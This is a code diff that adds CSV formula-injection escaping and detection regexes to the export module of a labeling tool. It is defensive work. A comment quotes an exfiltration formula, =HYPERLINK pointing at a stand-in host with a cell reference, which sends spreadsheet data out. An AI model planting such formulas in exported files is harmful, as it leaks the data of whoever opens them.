@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from collections.abc import AsyncIterator
 from typing import Any, Literal, TextIO
 
@@ -78,6 +79,50 @@ async def rows(service: LabelingService, project: str, what: What) -> AsyncItera
             }
 
 
+# -- CSV injection ---------------------------------------------------------------------------
+# A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one) as a formula:
+# a Slack answer =HYPERLINK("http://x/?"&A1,"x") came out live. In CSV such a cell gets a
+# leading ', and control characters (ESC and the like) are written as \xNN. Plain numbers
+# such as -1 stay numbers. A CR becomes a line break: Python's csv writer does not quote a
+# field for a CR, which split the row. JSONL is exact: it is data, not a spreadsheet.
+_FORMULA_START = frozenset("=+-@\t\r")
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+# One match() per cell: a formula start, or a control character (CR included) anywhere.
+_RISKY = re.compile(r"[=+\-@\t\r]|.*[\x00-\x08\x0b-\x1f\x7f-\x9f]", re.S)
+# Columns that can hold outside text (item ids from the data file, labels and free-text
+# answers, annotator keys); the others are numbers, fixed words or JSON chatlabel wrote.
+_TEXT_COLUMNS: dict[str, tuple[int, ...]] = {"results": (0, 1), "answers": (0, 1, 2)}
+
+
+def csv_cell(value: Any) -> Any:
+    """A value made safe to open in a spreadsheet (text only; other values unchanged)."""
+    if not isinstance(value, str) or not value:
+        return value
+    formula = value[0] in _FORMULA_START and not _NUMBER.fullmatch(value)
+    if "\r" in value:
+        value = value.replace("\r\n", "\n").replace("\r", "\n")
+    if _CONTROL.search(value):
+        value = _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", value)
+    return "'" + value if formula else value
+
+
+def _csv_safe(batch: list[Any], columns: tuple[int, ...]) -> list[Any]:
+    """A batch of CSV rows with its text columns made safe (the batch itself when clean)."""
+    risky = _RISKY.match
+    bad = [
+        n
+        for n, row in enumerate(batch)
+        if any(isinstance(row[c], str) and risky(row[c]) for c in columns)
+    ]
+    if not bad:
+        return batch
+    batch = list(batch)
+    for n in bad:
+        batch[n] = tuple(csv_cell(v) for v in batch[n])
+    return batch
+
+
 async def _sql_batches(
     service: LabelingService, project: str, what: ExportWhat, fmt: Format
 ) -> AsyncIterator[list[Any]]:
@@ -99,8 +144,9 @@ async def _sql_export(
         return n
     writer = csv.writer(out, lineterminator="\n")
     writer.writerow(COLUMNS[what])
+    columns = _TEXT_COLUMNS[what]
     async for batch in _sql_batches(service, project, what, fmt):
-        writer.writerows(batch)
+        writer.writerows(_csv_safe(batch, columns))
         n += len(batch)
     return n
 
@@ -122,7 +168,7 @@ async def write(
     async for row in rows(service, project, what):
         writer.writerow(
             {
-                k: json.dumps(v, ensure_ascii=False) if isinstance(v, (dict, list)) else v
+                k: json.dumps(v, ensure_ascii=False) if isinstance(v, (dict, list)) else csv_cell(v)
                 for k, v in row.items()
             }
         )
